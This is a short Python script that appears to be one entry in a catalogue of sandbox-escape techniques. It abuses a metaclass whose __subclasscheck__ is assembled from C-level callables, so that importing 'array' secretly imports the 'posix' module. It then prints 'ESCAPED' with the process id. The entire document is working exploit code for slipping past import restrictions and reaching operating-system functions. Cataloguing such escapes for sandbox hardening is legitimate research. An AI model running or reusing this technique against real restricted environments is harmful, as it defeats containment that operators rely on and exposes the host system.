# technique: inside an import a C callable imports
# goal: import
# source: own analysis: C callables inside an import
import abc
import collections.abc
import functools
kept = []


class Meta(abc.ABCMeta):
    __subclasscheck__ = staticmethod(functools.partial(
        dict.fromkeys, map(kept.append, map(__import__, ['posix']))))


class Evil(collections.abc.MutableSequence, metaclass=Meta):
    pass


import array
print('ESCAPED pid=%d' % kept[0].getpid())
